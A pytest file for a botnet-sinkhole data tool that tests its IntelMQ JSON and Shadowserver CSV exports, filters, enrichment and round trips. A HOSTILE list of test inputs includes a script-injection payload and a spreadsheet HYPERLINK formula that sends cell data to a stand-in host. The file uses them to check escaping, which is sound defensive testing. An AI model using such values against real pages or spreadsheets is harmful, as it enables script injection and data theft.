"""Export: IntelMQ JSON lines valid under IntelMQ's rules, Shadowserver CSV, filters, round trip."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from feed_cases import CASES, fake_enrich
from intelmq_oracle import harmonization_errors
from intelmq_rules import problems

from botcensus.cli import main
from botcensus.export import ExportQuery, export_events
from botcensus.export.event_sql import ENRICHED
from botcensus.export.events import unenriched
from botcensus.feeds import ingest, load_mapping
from botcensus.model import SINKHOLE_FEED_NAME
from botcensus.store import iter_events, roll_segment, sighting_files

T0_US = 1_714_521_600_000_000  # 2024-05-01T00:00:00Z
SAMPLE = CASES / "2024-05-01-event4_sinkhole-sample.csv"
ALL = ExportQuery(include_unclaimed=True)


def _export(data: Path, fmt: str, query: ExportQuery = ALL) -> bytes:
    out = io.BytesIO()
    export_events(data, query, fmt, out, fake_enrich)
    return out.getvalue()


def _lines(data: Path, query: ExportQuery = ALL) -> list[dict[str, Any]]:
    return [json.loads(line) for line in _export(data, "intelmq", query).splitlines()]


def _sightings(data: Path) -> list[tuple[Any, ...]]:
    rows = [r for f in sighting_files(data) for r in pq.read_table(f).to_pylist()]
    return sorted(tuple(str(v) for v in r.values()) for r in rows)


@pytest.fixture
def small_data(sinkhole_data: Path) -> Path:
    ingest([SAMPLE], sinkhole_data, fake_enrich)
    return sinkhole_data


def test_intelmq_lines_are_valid_intelmq_events(feed_data: Path) -> None:
    lines = _lines(feed_data)
    assert len(lines) > 20
    bad = {i: problems(e) for i, e in enumerate(lines) if problems(e)}
    assert bad == {}


def test_intelmq_lines_name_the_feed_and_classification(small_data: Path) -> None:
    for event in _lines(small_data, ExportQuery()):
        assert event["classification.type"] == "infected-system"
        assert event["feed.name"] in (SINKHOLE_FEED_NAME, "Sinkhole-Events IPv4")
        assert event["malware.name"] == event["malware.name"].lower()


def test_intelmq_export_read_back_gives_the_same_sightings(feed_data: Path, tmp_path: Path) -> None:
    exported = tmp_path / "events.jsonl"
    exported.write_bytes(_export(feed_data, "intelmq"))
    report = ingest([exported], tmp_path / "copy", fake_enrich)
    assert report.exit_code == 0
    assert len(_sightings(feed_data)) > 20
    assert _sightings(tmp_path / "copy") == _sightings(feed_data)


def test_shadowserver_export_has_the_report_columns(small_data: Path) -> None:
    header = next(csv.reader(io.StringIO(_export(small_data, "shadowserver").decode())))
    assert header == list(load_mapping().report("event4_sinkhole_http").columns)


def test_shadowserver_export_reads_back_as_a_report(small_data: Path, tmp_path: Path) -> None:
    path = tmp_path / "2024-05-01-event4_sinkhole_http-botcensus.csv"
    path.write_bytes(_export(small_data, "shadowserver", ExportQuery()))
    report = ingest([path], tmp_path / "copy", fake_enrich)
    assert (report.exit_code, report.files[0].stored) == (0, 7)

    def hits(data: Path) -> Counter[tuple[str, str, str]]:
        counts: Counter[tuple[str, str, str]] = Counter()
        for f in sighting_files(data):
            for r in pq.read_table(f).to_pylist():
                if r["malware_family"]:
                    counts[(str(r["day"]), r["source_ip"], r["malware_family"])] += r["hits"]
        return counts

    assert hits(tmp_path / "copy") == hits(small_data)


def test_shadowserver_rows_quote_text_and_leave_numbers_bare(small_data: Path) -> None:
    rows = _export(small_data, "shadowserver", ExportQuery()).decode().splitlines()
    assert rows[1].startswith('"2024-05-01 00:00:12","tcp","5.14.3.4",55002,8708,"RO"')


T = datetime(2024, 5, 1, tzinfo=UTC)


@pytest.mark.parametrize(
    ("query", "count"),
    [
        (ExportQuery(), 7),
        (ExportQuery(include_unclaimed=True), 8),
        (ExportQuery(countries=("RO",)), 4),
        (ExportQuery(countries=("ph",)), 2),
        (ExportQuery(asns=(8708,)), 4),
        (ExportQuery(asns=(8048,)), 1),
        (ExportQuery(prefixes=("5.14.0.0/16",)), 4),
        (ExportQuery(prefixes=("49.145.5.0/24", "2001:db8::/32")), 2),
        (ExportQuery(families=("RUSTOCK",)), 3),
        (ExportQuery(families=("necurs", "qsnatch")), 3),
        (ExportQuery(feeds=(SINKHOLE_FEED_NAME,)), 3),
        (ExportQuery(feeds=("Sinkhole-Events IPv4",)), 4),
        (ExportQuery(since=T.replace(second=3)), 5),
        (ExportQuery(until=T.replace(second=2)), 1),
    ],
)
def test_export_filters(small_data: Path, query: ExportQuery, count: int) -> None:
    assert len(_lines(small_data, query)) == count
    rows = _export(small_data, "shadowserver", query).decode().splitlines()
    assert len(rows) == count + 1


def _cli(*args: str) -> str:
    done = CliRunner().invoke(main, list(args))
    assert done.exit_code == 0, done.output
    return done.stdout


def test_events_and_export_write_the_same_line_for_the_same_event(sinkhole_data: Path) -> None:
    """One IntelMQ renderer: with nothing enriched, every stored event (claimed or not)
    leaves `botcensus events` and `export --format intelmq` as the same bytes, and IntelMQ's
    harmonisation accepts every line."""
    out = io.BytesIO()
    n = export_events(sinkhole_data, ALL, "intelmq", out, unenriched)
    recorded = _cli("events", "--data", str(sinkhole_data))
    assert n == len(recorded.splitlines()) == 4
    assert out.getvalue().decode() == recorded
    assert harmonization_errors(recorded) == []


def test_export_adds_only_its_enrichment_to_the_events_line(sinkhole_data: Path) -> None:
    """The two commands as a user runs them: `export` enriches (the bundled database), and
    each of its lines is the `events` line of the same event plus those fields."""
    data = str(sinkhole_data)
    recorded = _cli("events", "--data", data).splitlines()
    exported = _cli("export", "--data", data, "--format", "intelmq", "--include-unclaimed")
    assert harmonization_errors(exported) == []
    lines = exported.splitlines()
    assert len(lines) == len(recorded) == 4
    enriched = 0
    for mine, theirs in zip(lines, recorded, strict=True):
        event = json.loads(mine)
        enriched += any(k in event for k in ENRICHED)
        assert {k: v for k, v in event.items() if k not in ENRICHED} == json.loads(theirs)
        assert "classification.identifier" in event or "malware.name" not in event
    assert enriched >= 3


def test_time_source_keeps_microseconds(sinkhole_data: Path) -> None:
    times = [e["time.source"] for e in _lines(sinkhole_data)]
    assert "2024-05-01T00:00:03.000123+00:00" in times


def test_an_empty_dataset_exports_nothing(tmp_path: Path) -> None:
    assert _export(tmp_path, "intelmq") == b""
    assert _export(tmp_path, "shadowserver").decode().startswith('"timestamp","protocol"')


def test_an_unknown_format_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="format"):
        export_events(tmp_path, ALL, "stix", io.BytesIO(), fake_enrich)


def test_sinkhole_export_enriches_as_it_goes(sinkhole_data: Path) -> None:
    event = next(e for e in _lines(sinkhole_data) if e["source.ip"] == "5.14.3.4")
    assert (event["source.geolocation.cc"], event["source.asn"]) == ("RO", 8708)
    assert event["source.as_name"] == "RCS & RDS SA"


HOSTILE = [
    'quote " and backslash \\',
    "line\nbreak\r\tand\x00nul\x1f",
    "Café ☕ 𝄞",
    "\\xff\\xfe",
    "</script><script>alert(1)</script>",
    '=HYPERLINK("http://x/?"&A1)',
    "\u2028\u2029",
]


def test_hostile_values_leave_both_commands_as_the_same_valid_line(
    tmp_path: Path, make_event: Callable[..., list[Any]], make_segment: Callable[..., Path]
) -> None:
    """Bots choose their headers: whatever was stored leaves `events` and `export` as the
    same JSON line, which reads back to the stored value and which IntelMQ accepts."""
    rows = [
        make_event(
            time_received=T0_US + i, user_agent=v, host=v, bot_id=v, malware_family="rustock"
        )
        for i, v in enumerate(HOSTILE)
    ]
    data = tmp_path / "data"
    roll_segment(make_segment(data / "wal" / "w00-a-000001.wal", [rows]), data)
    stored = [r for b in iter_events(data) for r in b.to_pylist()]
    out = io.BytesIO()
    export_events(data, ALL, "intelmq", out, unenriched)
    recorded = _cli("events", "--data", str(data))
    assert out.getvalue().decode() == recorded
    events = [json.loads(line) for line in recorded.splitlines()]
    assert len(events) == len(HOSTILE)
    for event, row in zip(events, stored, strict=True):
        for name, column in (("extra.user_agent", "user_agent"), ("extra.bot_id", "bot_id")):
            assert event[name] == row[column]
    assert harmonization_errors(recorded) == []
